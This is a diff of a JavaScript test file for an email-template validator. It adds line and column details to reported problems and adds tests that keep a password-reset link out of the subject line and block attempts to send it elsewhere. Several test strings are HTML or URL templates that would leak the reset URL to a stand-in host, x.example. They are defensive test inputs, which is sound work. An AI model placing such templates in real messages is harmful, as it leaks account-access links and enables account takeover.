@@ -103,10 +103,16 @@ test('thousands of tags are refused before they are parsed', () => {
 
 test('a problem names its line', () => {
   expect(problems({ html: 'a\nb\n{{other}}' })).toEqual([
-    { field: 'html_template', message: 'Line 3: {{other}} is not a variable of this message.' },
+    {
+      field: 'html_template',
+      message: 'Line 3: {{other}} is not a variable of this message.',
+      line: 3,
+      column: 3,
+      name: 'other',
+    },
   ])
   expect(problems({ html: 'a\n{{#if email}}' })).toEqual([
-    { field: 'html_template', message: expect.stringMatching(/^Line 2: the braces do not fit together\.$/) },
+    { field: 'html_template', message: 'Line 2: the braces do not fit together.', line: 2 },
   ])
 })
 
@@ -117,9 +123,37 @@ test.each(['Hello\nBcc: all@example.com', 'Hello\r', 'Hello\u2028', '\u0000', ' 
   },
 )
 
+test('a link with access to an account cannot be in the subject', () => {
+  const texts = { ...builtInTemplates['reset-password'], subject: 'Open {{reset_url}}' }
+
+  expect(problemsOf(builtInTemplates['reset-password'], texts)).toMatchObject([
+    { field: 'subject_template', name: 'reset_url' },
+  ])
+})
+
+const reset = builtInTemplates['reset-password']
+
+test.each([
+  '<img src="https://x.example/?u={{reset_url}}">',
+  '<a href="https://x.example/?u={{reset_url}}">Reset</a>',
+  '<a href="{{reset_url}}/more">Reset</a>',
+  '<form action="https://x.example"><input value="{{reset_url}}"></form>',
+  'https://x.example/{{reset_url}}',
+])('a link with access to an account cannot be carried away by %s', (html) => {
+  const problem = { field: 'html_template', line: 2, name: 'reset_url' }
+
+  expect(problemsOf(reset, { ...reset, html: `<p>{{reset_url}}</p>\n${html}` })).toMatchObject([problem])
+})
+
+test('such a link may stand by itself, and be the target of a link', () => {
+  const html = `<a class="b" href="{{reset_url}}">Here</a>, <a href='{{reset_url}}'>here</a> or here ({{reset_url}}).`
+
+  expect(problemsOf(reset, { ...reset, html, text: 'Open {{reset_url}}' })).toEqual([])
+})
+
 test('both parts must contain the required variables', () => {
   expect(problemsOf(kind, { subject: 'Hi', html: '<p>{{name}}</p>', text: '' })).toEqual([
-    { field: 'html_template', message: '{{message}} must be mentioned.' },
+    { field: 'html_template', message: '{{message}} must be mentioned.', name: 'message' },
     { field: 'text_template', message: 'This part is empty.' },
   ])
 })
